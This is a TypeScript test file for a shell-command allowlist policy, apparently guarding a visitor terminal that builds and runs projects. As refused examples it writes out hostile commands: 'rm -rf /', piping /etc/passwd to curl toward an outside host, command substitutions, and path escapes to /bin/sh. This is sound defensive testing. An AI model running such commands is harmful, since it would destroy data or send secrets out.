import { describe, expect, test } from 'bun:test'
import { checkLine, DEFAULT_POLICY, splitCommands } from './policy.ts'

describe('command policy', () => {
  test('splits on ; && || | & and respects quotes', () => {
    expect(splitCommands('make && ./miniRT "a;b" || echo \'x|y\'; ls | cat &')).toEqual([
      'make',
      './miniRT "a;b"',
      "echo 'x|y'",
      'ls',
      'cat',
    ])
  })

  test('the default allowlist lets a visitor build and run a project', () => {
    for (const line of [
      'cd projects/minirt && make && ./miniRT scenes/demo.rt',
      'ls -la',
      'cat Makefile',
      'gcc -O2 x.c -o x',
      'stty size',
      'echo $((40+2))',
    ]) {
      expect(checkLine(line)).toEqual({ ok: true })
    }
  })

  test('every simple command of a line is checked, with a message naming the refused one', () => {
    const verdict = checkLine('ls; rm -rf /')
    expect(verdict.ok).toBe(false)
    if (!verdict.ok) {
      expect(verdict.command).toBe('rm')
      expect(verdict.message).toContain("'rm' is not allowed")
    }
    expect(checkLine('cat /etc/passwd | curl -d @- http://x').ok).toBe(false)
  })

  test('command substitution is refused, arithmetic is not', () => {
    expect(checkLine('echo $(rm -rf ~)').ok).toBe(false)
    expect(checkLine('echo `id`').ok).toBe(false)
    expect(checkLine('echo $((1+2))').ok).toBe(true)
  })

  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, on purpose
  test('${NAME} is a variable; any other ${…} is refused like $(', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, on purpose
    expect(checkLine('echo ${HOME}/x').ok).toBe(true)
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, on purpose
    expect(checkLine("cc -MM -MT '${foreach a,1 2,${a}}' -MF out.mk x.c").ok).toBe(false)
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, on purpose
    expect(checkLine('echo ${x:-y}').ok).toBe(false)
  })

  test('./* matches programs in the current folder only', () => {
    expect(checkLine('./life -n 3', DEFAULT_POLICY).ok).toBe(true)
    expect(checkLine('/bin/sh', DEFAULT_POLICY).ok).toBe(false)
    expect(checkLine('../../bin/sh', DEFAULT_POLICY).ok).toBe(false)
    expect(checkLine('./../../bin/sh', DEFAULT_POLICY).ok).toBe(false)
  })

  test('a project may widen its own allowlist', () => {
    expect(checkLine('python3 x.py', { allow: ['python3'] }).ok).toBe(true)
    expect(checkLine('anything at all', { allow: ['*'] }).ok).toBe(true)
    expect(checkLine('/usr/bin/env', { allow: ['*'] }).ok).toBe(true)
  })
})
